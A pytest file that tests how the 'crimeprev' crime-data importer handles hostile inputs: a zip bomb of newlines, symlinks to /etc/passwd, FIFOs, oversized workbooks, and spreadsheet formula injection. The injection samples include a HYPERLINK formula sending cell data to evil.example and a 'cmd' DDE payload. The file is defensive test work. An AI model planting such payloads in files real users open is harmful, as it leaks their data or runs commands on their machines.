"""Hostile and unlucky input files, each built here, each run through the command line in a
process of its own so that its peak memory can be measured.

Every case keeps the same promises: rows read = loaded + set aside (per file and in total),
a problem is one sentence and never a traceback, the exit status says what happened, the
process stays under 1 GB, and where nothing should change the data folder is byte for byte
as it was (the import log excepted: every import, refused ones included, is entered in it).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import sys
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow.compute as pc
import pyarrow.dataset as ds
import pytest
from openpyxl import Workbook, load_workbook
from test_import_corpus import HEADER as STREET_HEADER
from test_import_corpus import lines as street_lines
from test_import_corpus import row as street_row
from test_import_delivery import COLUMNS as TRACKER_COLUMNS
from test_import_records import GOOD as RECORD_ROWS
from test_import_records import MAPPING
from test_import_records import lines as record_lines

from crimeprev.config import config_for
from crimeprev.imports.common import import_log, quarantined_rows
from crimeprev.imports.delivery import import_delivery
from crimeprev.imports.police_uk import import_police_uk
from crimeprev.present import cells_safe
from crimeprev.store import REPOSITORY_ROOT, records_dir
from crimeprev.view import resolve_filters

MEMORY_LIMIT_MIB = 1024
# The peak is read from /proc (VmHWM, this process's own address space): `ru_maxrss` would
# carry over the peak of the test process that started it, which Linux keeps across exec.
RUNNER = """
import json, sys
from crimeprev.cli.main import main
try:
    code = main(sys.argv[2:])
except SystemExit as stop:
    code = stop.code if isinstance(stop.code, int) else 1
with open(sys.argv[1], "w") as handle:
    status = open("/proc/self/status").read().splitlines()
    peak = next(int(line.split()[1]) for line in status if line.startswith("VmHWM"))
    json.dump({"maxrss_kib": peak}, handle)
sys.exit(code)
"""


@dataclass
class Run:
    code: int
    summary: dict[str, Any] | None
    err: str
    peak_mib: float

    @property
    def sentence(self) -> str:
        return self.err.strip().splitlines()[-1] if self.err.strip() else ""


def crimeprev(root: Path, *args: str, timeout: float = 180) -> Run:
    """Run `crimeprev --data-dir root ARGS --format json` in its own process."""
    import subprocess

    with tempfile.NamedTemporaryFile(suffix=".json", delete=False) as handle:
        memory = Path(handle.name)
    try:
        env = {k: v for k, v in os.environ.items() if k != "CRIMEPREV_DATA_DIR"}
        done = subprocess.run(
            [sys.executable, "-c", RUNNER, str(memory), "--data-dir", str(root), *args],
            cwd=REPOSITORY_ROOT,
            env=env,
            capture_output=True,
            text=True,
            timeout=timeout,
        )
        peak = json.loads(memory.read_text())["maxrss_kib"] / 1024
    finally:
        memory.unlink(missing_ok=True)
    summary = json.loads(done.stdout) if done.stdout.strip().startswith("{") else None
    return Run(done.returncode, summary, done.stderr, peak)


def state(root: Path) -> dict[str, str]:
    """Every file of the data folder (and where each link points) with a digest of its
    bytes; the import log and the lock file are left out."""
    found: dict[str, str] = {}
    if not root.exists():
        return found
    for path in sorted(root.rglob("*")):
        relative = path.relative_to(root)
        if relative.parts[0] == "imports" or relative.name == ".import.lock":
            continue
        if path.is_symlink():
            found[str(relative)] = "-> " + os.readlink(path)
        elif path.is_file():
            found[str(relative)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def check(run: Run, code: int, phrase: str | None = None) -> None:
    """What every case promises: its exit status, one sentence, memory, and accounting."""
    assert run.code == code, run.err
    assert "Traceback" not in run.err
    assert run.peak_mib < MEMORY_LIMIT_MIB, f"peak {run.peak_mib:.0f} MiB"
    print(f"peak {run.peak_mib:.0f} MiB, exit {run.code}: {run.sentence or 'summary'}")
    if phrase is not None:
        assert phrase in run.sentence, run.err
        if code == 2:
            assert run.sentence.startswith("crimeprev: ") and run.sentence.endswith(".")
    if run.summary is not None:
        summary = run.summary
        assert summary["rows_read"] == summary["rows_loaded"] + summary["rows_quarantined"]
        for report in summary["files"]:
            assert report["rows_read"] == report["rows_loaded"] + report["rows_quarantined"]


def check_refused(root: Path, run: Run, before: dict[str, str], phrase: str) -> None:
    """A refused import: exit 2, its sentence, nothing written, and a log entry saying so."""
    check(run, 2, phrase)
    assert state(root) == before
    entry = import_log(root)[-1]
    assert entry["status"] == "refused" and phrase in entry["notes"][-1]
    assert entry["rows_read"] == entry["rows_loaded"] + entry["rows_quarantined"] == 0


def record_table(root: Path):
    return ds.dataset(records_dir(root), format="parquet", partitioning="hive").to_table()


def essex_folder(tmp_path: Path) -> Path:
    """A data.police.uk folder holding five Essex crimes of October 2018."""
    root = tmp_path / "data"
    source = tmp_path / "seed" / "2018-10-essex-street.csv"
    source.parent.mkdir(parents=True)
    source.write_text(street_lines(*(street_row(f"seed{i}") for i in range(5))))
    assert import_police_uk(root, [source]).rows_loaded == 5
    return root


# --- 1. Line endings -----------------------------------------------------------------------


@pytest.mark.parametrize("ending", ["\r", "\n", "\r\n"], ids=["CR", "LF", "CRLF"])
def test_every_line_ending_reads_every_row(tmp_path: Path, ending: str):
    rows = [street_row(f"e{i}") for i in range(6)]
    source = tmp_path / "in" / "2018-10-essex-street.csv"
    source.parent.mkdir()
    source.write_bytes(ending.join([STREET_HEADER, *rows]).encode() + ending.encode())
    root = tmp_path / "data"
    run = crimeprev(root, "import", "police-uk", str(source), "--format", "json")
    check(run, 0)
    assert run.summary is not None
    assert (run.summary["rows_read"], run.summary["rows_loaded"]) == (6, 6)
    assert sorted(record_table(root)["record_id"].to_pylist()) == [f"e{i}" for i in range(6)]


def test_mixed_line_endings_in_one_file_all_count(tmp_path: Path):
    rows = [street_row(f"m{i}") for i in range(4)]
    source = tmp_path / "in" / "2018-10-essex-street.csv"
    source.parent.mkdir()
    source.write_bytes(f"{STREET_HEADER}\r{rows[0]}\n{rows[1]}\r\n{rows[2]}\r{rows[3]}".encode())
    run = crimeprev(tmp_path / "data", "import", "police-uk", str(source), "--format", "json")
    check(run, 0)
    assert run.summary is not None and run.summary["rows_loaded"] == 4


def test_records_extract_with_cr_line_endings_loads(tmp_path: Path):
    source = tmp_path / "extract.csv"
    source.write_text(record_lines(*RECORD_ROWS, end="\r"), newline="")
    root = tmp_path / "data"
    run = crimeprev(
        root, "import", "records", str(source), "--mapping", str(MAPPING), "--format", "json"
    )
    check(run, 0)
    assert run.summary is not None and run.summary["rows_loaded"] == len(RECORD_ROWS)


# --- 2. Identity ---------------------------------------------------------------------------


def test_a_month_given_as_folder_and_zip_counts_each_row_once(tmp_path: Path):
    crimes = [street_row(f"c{i}") for i in range(3)]
    # Two identical anti-social behaviour rows are two incidents: their lines differ.
    asb = [street_row("", crime_type="Anti-social behaviour", outcome="")] * 2
    asb.append(
        street_row("", crime_type="Anti-social behaviour", outcome="", coords=("0.9", "51.8"))
    )
    content = street_lines(*crimes, *asb)
    folder = tmp_path / "in" / "2018-10"
    folder.mkdir(parents=True)
    (folder / "2018-10-essex-street.csv").write_text(content)
    archive = tmp_path / "in" / "download.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("2018-10/2018-10-essex-street.csv", content.replace("\n", "\r\n"))
    root = tmp_path / "data"
    run = crimeprev(root, "import", "police-uk", str(folder), str(archive), "--format", "json")
    check(run, 0)
    assert run.summary is not None
    assert (run.summary["rows_read"], run.summary["rows_loaded"]) == (12, 6)
    records = record_table(root)
    ids = records["record_id"].to_pylist()
    assert len(ids) == len(set(ids)) == 6
    assert pc.sum(pc.equal(records["record_kind"], "asb")).as_py() == 3
    reasons = quarantined_rows(root, run.summary["import_id"])["reason"].to_pylist()
    assert sum(r.startswith("duplicate Crime ID") for r in reasons) == 3
    assert sum(r.startswith("the same anti-social behaviour row") for r in reasons) == 3
    # The ids do not depend on where the file was read from: imported again, nothing changes.
    before = state(root)
    again = crimeprev(root, "import", "police-uk", str(archive), "--format", "json")
    check(again, 0)
    assert again.summary is not None and again.summary["months_written"] == []
    assert state(root) == before


def test_a_crime_id_held_in_an_earlier_month_is_set_aside(tmp_path: Path):
    root = essex_folder(tmp_path)
    later = tmp_path / "in" / "2018-11-essex-street.csv"
    later.parent.mkdir()
    later.write_text(
        street_lines(street_row("seed0", month="2018-11"), street_row("new1", month="2018-11"))
    )
    run = crimeprev(root, "import", "police-uk", str(later), "--format", "json")
    check(run, 0)
    assert run.summary is not None
    assert (run.summary["rows_read"], run.summary["rows_loaded"]) == (2, 1)
    reasons = quarantined_rows(root, run.summary["import_id"])["reason"].to_pylist()
    assert reasons == ["Crime ID already loaded in 2018-10 by an earlier import"]
    ids = record_table(root)["record_id"].to_pylist()
    assert ids.count("seed0") == 1 and len(ids) == 6


def test_a_crime_id_moves_when_its_month_is_replaced_too(tmp_path: Path):
    root = essex_folder(tmp_path)
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "2018-10-essex-street.csv").write_text(
        street_lines(*(street_row(f"seed{i}") for i in range(1, 5)))
    )
    (folder / "2018-11-essex-street.csv").write_text(
        street_lines(street_row("seed0", month="2018-11"))
    )
    run = crimeprev(root, "import", "police-uk", str(folder), "--format", "json")
    check(run, 0)
    assert run.summary is not None and run.summary["rows_quarantined"] == 0
    table = record_table(root)
    moved = table.filter(pc.equal(table["record_id"], "seed0"))
    assert moved.num_rows == 1 and str(moved["month_start"][0].as_py()) == "2018-11-01"


# --- 3. Limits and only regular files ------------------------------------------------------


@pytest.fixture(scope="module")
def newline_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """About 1 MB of zip holding 1 GiB of newlines, as a street-level file."""
    archive = tmp_path_factory.mktemp("bomb") / "2018-10.zip"
    chunk = b"\n" * (1024 * 1024)
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("2018-10-essex-street.csv", "w", force_zip64=True) as member:
            for _ in range(1024):
                member.write(chunk)
    return archive


def test_a_zip_of_a_gibibyte_of_newlines_is_refused_unread(tmp_path: Path, newline_bomb: Path):
    assert newline_bomb.stat().st_size < 2 * 1024 * 1024
    root = essex_folder(tmp_path)
    before = state(root)
    scratch_before = set(Path(tempfile.gettempdir()).glob("crimeprev-*"))
    run = crimeprev(root, "import", "police-uk", str(newline_bomb), "--format", "json")
    check_refused(root, run, before, "more than the 256.0 MiB one file may hold")
    assert not (root / ".tmp").exists() or not any((root / ".tmp").iterdir())
    assert set(Path(tempfile.gettempdir()).glob("crimeprev-*")) <= scratch_before


def test_a_single_line_of_fifty_megabytes_is_refused(tmp_path: Path):
    source = tmp_path / "in" / "2018-10-essex-street.csv"
    source.parent.mkdir()
    source.write_bytes(STREET_HEADER.encode() + b"\n" + b"x" * (50 * 1024 * 1024))
    root = essex_folder(tmp_path)
    before = state(root)
    run = crimeprev(root, "import", "police-uk", str(source), "--format", "json")
    check_refused(root, run, before, "line 2 is longer than 1.0 MiB")


def test_limits_come_from_the_folder_s_configuration(tmp_path: Path):
    root = essex_folder(tmp_path)
    strategy = root / "config" / "strategy.toml"
    strategy.write_text(
        strategy.read_text()
        .replace("max_total_bytes = 2147483648", "max_total_bytes = 5000")
        .replace("max_file_bytes = 268435456", "max_file_bytes = 4000")
    )
    before = state(root)
    folder = tmp_path / "in"
    folder.mkdir()
    for month in ("2018-11", "2018-12"):
        rows = [street_row(f"{month}-{i}", month=month) for i in range(20)]
        (folder / f"{month}-essex-street.csv").write_text(street_lines(*rows))
    run = crimeprev(root, "import", "police-uk", str(folder), "--format", "json")
    check_refused(root, run, before, "hold more than 4.9 KiB")
    config_for.cache_clear()


def test_a_wrong_limit_in_the_configuration_is_named(tmp_path: Path):
    root = essex_folder(tmp_path)
    strategy = root / "config" / "strategy.toml"
    strategy.write_text(strategy.read_text().replace("max_lines = 5000000", "max_lines = -3"))
    run = crimeprev(root, "import", "police-uk", str(strategy), "--format", "json")
    check(run, 2, "[imports] max_lines must be a whole number, 1 or more")
    config_for.cache_clear()


def test_a_corrupt_zip_stream_is_one_sentence(tmp_path: Path):
    archive = tmp_path / "2018-10.zip"
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr(
            "2018-10-essex-street.csv", street_lines(*(street_row(f"z{i}") for i in range(200)))
        )
    raw = bytearray(archive.read_bytes())
    start = raw.index(b"2018-10-essex-street.csv") + len("2018-10-essex-street.csv") + 10
    raw[start : start + 40] = b"\xff" * 40
    archive.write_bytes(bytes(raw))
    root = essex_folder(tmp_path)
    before = state(root)
    run = crimeprev(root, "import", "police-uk", str(archive), "--format", "json")
    check_refused(root, run, before, "the zip archive is damaged")


def test_a_fifo_named_csv_is_named_and_skipped_without_hanging(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    os.mkfifo(folder / "2018-11-essex-street.csv")
    (folder / "2018-12-essex-street.csv").write_text(
        street_lines(street_row("f1", month="2018-12"))
    )
    root = essex_folder(tmp_path)
    run = crimeprev(root, "import", "police-uk", str(folder), "--format", "json", timeout=60)
    check(run, 0)
    assert run.summary is not None and run.summary["rows_loaded"] == 1
    assert run.summary["skipped_files"] == [
        {
            "file": str(folder / "2018-11-essex-street.csv"),
            "reason": "a FIFO (named pipe), not a regular file",
        }
    ]
    before = state(root)
    alone = crimeprev(
        root, "import", "police-uk", str(folder / "2018-11-essex-street.csv"), timeout=60
    )
    check(alone, 2, "No street-level crime files")
    assert state(root) == before


def test_links_are_named_and_never_followed(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "2018-11-essex-street.csv").symlink_to("/etc/passwd")
    (folder / "2018-12-essex-street.csv").symlink_to("/dev/zero")
    (folder / "2019-01-essex-street.csv").write_text(
        street_lines(street_row("l1", month="2019-01"))
    )
    root = essex_folder(tmp_path)
    run = crimeprev(root, "import", "police-uk", str(folder), "--format", "json", timeout=60)
    check(run, 0)
    assert run.summary is not None
    assert (run.summary["rows_read"], run.summary["rows_loaded"]) == (1, 1)
    assert {s["reason"] for s in run.summary["skipped_files"]} == {
        "a symbolic link, which is not followed (name the file it points to)"
    }
    assert run.summary["rows_quarantined"] == 0
    extract = tmp_path / "extract.csv"
    extract.symlink_to("/etc/passwd")
    records_root = tmp_path / "records-data"
    refused = crimeprev(records_root, "import", "records", str(extract), "--mapping", str(MAPPING))
    check(refused, 2, "is a symbolic link, which is not followed")


def far_cell_workbook(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    """A small workbook whose sheet also holds one cell at XFD1048576, the last cell."""
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for values in rows:
        sheet.append(values)
    sheet["XFD1048576"] = "x"
    book.save(path)
    return path


def test_a_tiny_workbook_reaching_the_last_cell_is_refused(tmp_path: Path):
    header = list(TRACKER_COLUMNS)
    tracker = far_cell_workbook(
        tmp_path / "tracker.xlsx",
        header,
        [["A-1", "knife-crime", "Patrols", "2023-03", "", "2022-09", "ongoing"]],
    )
    assert tracker.stat().st_size < 10_000
    root = tmp_path / "data"
    root.mkdir()
    before = state(root)
    run = crimeprev(root, "import", "delivery", str(tracker), "--format", "json")
    check_refused(root, run, before, "the sheet's used range reaches column XFD")
    extract = far_cell_workbook(
        tmp_path / "extract.xlsx", list(next(csv.reader([record_lines().splitlines()[0]]))), []
    )
    records_run = crimeprev(
        root, "import", "records", str(extract), "--mapping", str(MAPPING), "--format", "json"
    )
    check_refused(root, records_run, before, "the sheet's used range reaches column XFD")


def test_a_sheet_declaring_a_huge_range_is_read_by_its_cells(tmp_path: Path):
    book = Workbook()
    sheet = book.active
    sheet.append(list(TRACKER_COLUMNS))
    sheet.append(["A-1", "knife-crime", "Patrols", "2023-03", "", "2022-09", "ongoing"])
    buffer = io.BytesIO()
    book.save(buffer)
    # Rewrite the declared dimension to the whole sheet; the cells stay where they are.
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    target = tmp_path / "tracker.xlsx"
    with zipfile.ZipFile(target, "w") as out:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(
                    b'<dimension ref="A1:G2"/>', b'<dimension ref="A1:XFD1048576"/>'
                )
                assert b"XFD1048576" in data
            out.writestr(item, data)
    run = crimeprev(tmp_path / "data", "import", "delivery", str(target), "--format", "json")
    check(run, 0)
    assert run.summary is not None and run.summary["rows_loaded"] == 1


# --- 4. Killed imports: a log entry, and temporary files cleared ----------------------------


def test_a_killed_import_is_logged_and_its_temporary_files_cleared(tmp_path: Path):
    import signal
    import subprocess

    root = essex_folder(tmp_path)
    source = tmp_path / "in" / "2018-11-essex-street.csv"
    source.parent.mkdir()
    source.write_text(street_lines(street_row("k1", month="2018-11")))
    killed = subprocess.run(
        [
            sys.executable,
            "-c",
            "import os, signal, sys\n"
            "from pathlib import Path\n"
            "from crimeprev.imports.police_uk import import_police_uk\n"
            "import_police_uk(Path(sys.argv[1]), [Path(sys.argv[2])],"
            " before_commit=lambda: os.kill(os.getpid(), signal.SIGKILL))\n",
            str(root),
            str(source),
        ],
        cwd=REPOSITORY_ROOT,
        capture_output=True,
    )
    assert killed.returncode == -signal.SIGKILL
    assert any((root / ".tmp").iterdir())
    run = crimeprev(root, "import", "police-uk", str(source), "--format", "json")
    check(run, 0)
    log = import_log(root)
    assert [e["status"] for e in log[-2:]] == ["interrupted", "finished"]
    assert "switched its months in" in log[-2]["notes"][0]
    assert not (root / ".tmp").exists() or not any((root / ".tmp").iterdir())


# --- 5. Formula injection -----------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'


def test_a_formula_title_loads_as_text_and_leaves_as_text(tmp_path: Path):
    from builders import build_tiny

    root = build_tiny(tmp_path / "data")
    tracker = tmp_path / "tracker.csv"
    with tracker.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(TRACKER_COLUMNS)
        writer.writerow(["EV-1", "knife-crime", EVIL, "2022-08", "2022-08", "2022-09", "complete"])
        writer.writerow(
            ["EV-2", "knife-crime", "+cmd|' /C calc'!A0", "2023-03", "", "2022-09", "ongoing"]
        )
        writer.writerow(
            ["EV-3", "knife-crime", "See www.example.org", "2022-12", "", "2022-09", "ongoing"]
        )
    run = crimeprev(root, "import", "delivery", str(tracker), "--format", "json")
    check(run, 0)
    actions = list(csv.DictReader((root / "delivery" / "actions.csv").open(newline="")))
    assert actions[0]["title"] == EVIL  # the data keeps what the file said
    # The workbook holds the title as a text cell, not a formula.
    workbook_path = tmp_path / "report.xlsx"
    report = crimeprev(root, "report", "--period", "2022-09", "--out", str(workbook_path))
    assert report.code == 0, report.err
    book = load_workbook(workbook_path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)
    formulas = [
        c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    # A CSV download of the same rows opens as text in a spreadsheet.
    frame = __import__("pandas").DataFrame(actions)
    downloaded = list(csv.DictReader(io.StringIO(cells_safe.csv_bytes(frame).decode())))
    assert downloaded[0]["title"] == "'" + EVIL
    assert downloaded[1]["title"].startswith("'+")
    assert downloaded[2]["title"] == "See www.example.org"
    # On a page, a title is text: no link is made of its URL.
    shown = cells_safe.markdown_text(EVIL)
    assert "http://" not in shown and "](" not in shown


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_neutralised(start: str):
    assert cells_safe.neutralise(f"{start}1+1") == f"'{start}1+1"
    assert cells_safe.neutralise("Patrols") == "Patrols"
    assert cells_safe.neutralise(-3) == -3


# --- 6. Another force's file ---------------------------------------------------------------


def test_a_misfiled_month_of_another_force_is_refused_unless_named(tmp_path: Path):
    root = essex_folder(tmp_path)
    other = "Avon and Somerset Constabulary"
    source = tmp_path / "in" / "2018-11-essex-street.csv"
    source.parent.mkdir()
    source.write_text(
        street_lines(*(street_row(f"a{i}", month="2018-11", force=other) for i in range(4)))
    )
    before = state(root)
    run = crimeprev(root, "import", "police-uk", str(source), "--format", "json")
    check_refused(root, run, before, f"holds rows reported by {other}, not Essex Police")
    assert f'--force "{other}"' in run.sentence
    kept = crimeprev(root, "import", "police-uk", str(source), "--force", other, "--format", "json")
    check(kept, 0)
    assert kept.summary is not None and kept.summary["rows_loaded"] == 4
    forces = sorted(set(record_table(root)["force"].to_pylist()))
    assert forces == [other, "Essex Police"]
    config_for.cache_clear()
    config = config_for(root)
    assert config.imports.force == "Essex Police"
    chosen = resolve_filters(
        config, [__import__("datetime").date(2018, 11, 1)], forces=tuple(forces)
    )
    assert chosen.filters.force == "Essex Police"


def test_the_first_import_names_the_folder_s_force(tmp_path: Path):
    root = essex_folder(tmp_path)
    assert 'force = "Essex Police"' in (root / "config" / "strategy.toml").read_text()


def test_rows_of_several_forces_in_a_new_folder_ask_for_force(tmp_path: Path):
    source = tmp_path / "2018-10-essex-street.csv"
    source.write_text(street_lines(street_row("a"), street_row("b", force="Kent Police")))
    root = tmp_path / "data"
    run = crimeprev(root, "import", "police-uk", str(source), "--format", "json")
    check(run, 2, "rows reported by 2 forces (Essex Police, Kent Police)")
    assert not (root / "config").exists() and not (root / "records").exists()


# --- 7. Trackers: merged cells, formulas, partial loads --------------------------------------


def tracker_book(path: Path, rows: list[list[Any]], merge: str | None = None) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.append(list(TRACKER_COLUMNS))
    for values in rows:
        sheet.append(values)
    if merge:
        sheet.merge_cells(merge)
    book.save(path)
    return path


def test_merged_cells_take_their_anchor_s_value(tmp_path: Path):
    rows = [
        ["M-1", "knife-crime", "Weapon sweeps", "2023-03", "", "2022-06", "ongoing"],
        ["M-1", None, "Weapon sweeps", "2023-03", "", "2022-09", "at risk"],
        ["M-1", None, "Weapon sweeps", "2023-03", "", "2022-12", "ongoing"],
    ]
    tracker = tracker_book(tmp_path / "tracker.xlsx", rows, merge="B2:B4")
    root = tmp_path / "data"
    run = crimeprev(root, "import", "delivery", str(tracker), "--format", "json")
    check(run, 0)
    assert run.summary is not None and (run.summary["rows_read"], run.summary["rows_loaded"]) == (
        3,
        3,
    )
    status = list(csv.DictReader((root / "delivery" / "status.csv").open(newline="")))
    assert [s["quarter_end"] for s in status] == ["2022-06", "2022-09", "2022-12"]


def _with_formulas(path: Path, cached: str | None) -> Path:
    """A tracker whose second row's status is a formula, with or without a saved value."""
    tracker_book(
        path,
        [
            ["F-1", "knife-crime", "Patrols", "2023-03", "", "2022-09", "ongoing"],
            ["F-2", "knife-crime", "Visits", "2023-03", "", "2022-09", None],
        ],
    )
    source = zipfile.ZipFile(path)
    items = [(i, source.read(i)) for i in source.infolist()]
    source.close()
    with zipfile.ZipFile(path, "w") as out:
        for item, data in items:
            if item.filename == "xl/worksheets/sheet1.xml":
                value = f"<v>{cached}</v>" if cached is not None else ""
                kind = ' t="str"' if cached is not None else ""
                cell = f'<c r="G3"{kind}><f>LOWER("ONGOING")</f>{value}</c>'
                data = data.replace(b"</row></sheetData>", cell.encode() + b"</row></sheetData>", 1)
                assert b"<f>" in data
            out.writestr(item, data)
    return path


def test_a_formula_is_read_from_its_saved_value(tmp_path: Path):
    tracker = _with_formulas(tmp_path / "tracker.xlsx", "ongoing")
    run = crimeprev(tmp_path / "data", "import", "delivery", str(tracker), "--format", "json")
    check(run, 0)
    assert run.summary is not None and run.summary["rows_loaded"] == 2


def test_a_formula_without_a_saved_value_is_set_aside_saying_so(tmp_path: Path):
    tracker = _with_formulas(tmp_path / "tracker.xlsx", None)
    root = tmp_path / "data"
    run = crimeprev(
        root, "import", "delivery", str(tracker), "--replace-partial", "--format", "json"
    )
    check(run, 0)
    assert run.summary is not None and (
        run.summary["rows_loaded"],
        run.summary["rows_quarantined"],
    ) == (1, 1)
    reason = quarantined_rows(root, run.summary["import_id"])["reason"].to_pylist()
    assert reason == [
        "a formula without a saved value in G3: open the workbook in Excel or LibreOffice, save "
        "it (so its values are stored) and import it again"
    ]


def test_a_partial_tracker_asks_before_replacing_the_plan(tmp_path: Path):
    root = tmp_path / "data"
    good = tmp_path / "good.csv"
    good.write_text(
        ",".join(TRACKER_COLUMNS) + "\nP-1,knife-crime,Patrols,2023-03,,2022-09,ongoing\n"
        "P-2,knife-crime,Visits,2023-03,,2022-09,ongoing\n"
    )
    assert import_delivery(root, good).rows_loaded == 2
    before = state(root)
    partial = tmp_path / "partial.csv"
    partial.write_text(
        ",".join(TRACKER_COLUMNS) + "\nP-1,knife-crime,Patrols,2023-03,,2022-09,complete\n"
        "P-2,no-such-strand,Visits,2023-03,,2022-09,ongoing\n"
    )
    run = crimeprev(root, "import", "delivery", str(partial), "--format", "json")
    check(run, 1)
    assert run.summary is not None and (
        run.summary["rows_loaded"],
        run.summary["rows_quarantined"],
    ) == (1, 1)
    assert "--replace-partial" in run.summary["files"][0]["problem"]
    assert state(root) == before
    replaced = crimeprev(
        root, "import", "delivery", str(partial), "--replace-partial", "--format", "json"
    )
    check(replaced, 0)
    assert state(root) != before
    actions = list(csv.DictReader((root / "delivery" / "actions.csv").open(newline="")))
    assert [a["action_id"] for a in actions] == ["P-1"]


def test_an_id_held_in_a_month_not_replaced_is_set_aside_and_one_being_replaced_is_not(
    demo_root: Path, demo_db
):
    """Read the demo's records directly for an id held in January 2018; an incoming row with
    that id in another month is set aside naming the month, the same id arriving for January
    2018 itself (a month being replaced) loads, and an unseen id loads."""
    from datetime import date

    import pyarrow as pa

    from crimeprev.imports.common import set_aside_known_ids

    january = ds.dataset(demo_root / "records" / "month=2018-01", format="parquet").to_table(
        columns=["record_id", "force"]
    )
    held_id = january["record_id"][0].as_py()
    force = january["force"][0].as_py()

    def rows(month: date, record_id: str) -> pa.Table:
        return pa.table(
            {
                "record_id": [record_id, "never-seen-before"],
                "month_start": pa.array([month, month], pa.date32()),
                "force": [force, force],
                "reason": pa.array([None, None], pa.string()),
            }
        )

    moved = set_aside_known_ids(demo_db, rows(date(2022, 9, 1), held_id), "Crime ID")
    assert moved["reason"].to_pylist() == [
        "Crime ID already loaded in 2018-01 by an earlier import",
        None,
    ]
    replacing = set_aside_known_ids(demo_db, rows(date(2018, 1, 1), held_id), "Crime ID")
    assert replacing["reason"].to_pylist() == [None, None]
